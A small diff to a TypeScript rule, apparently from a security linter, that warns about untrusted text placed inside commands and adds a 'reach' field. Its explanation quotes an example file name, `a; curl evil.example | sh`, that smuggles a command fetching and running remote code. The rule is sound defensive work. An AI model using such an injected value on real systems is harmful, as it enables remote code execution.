@@ -28,6 +28,7 @@ export const untrustedCommand: PlaybookRule = {
   group: 'data',
   severity: 'warning',
   partial: true,
+  reach: 'step',
   what: 'Untrusted text is put inside a command, a script or a query.',
   why: 'Whatever reads the command cannot tell which part its author wrote. A file name such as `a; curl evil.example | sh` becomes a second command, and a person who approves a long line easily misses it.',
   fix: 'Pass the value as an argument of its own, of a tool whose input names an entity or has an `enum` or `pattern`. An error where no person sees the call.',
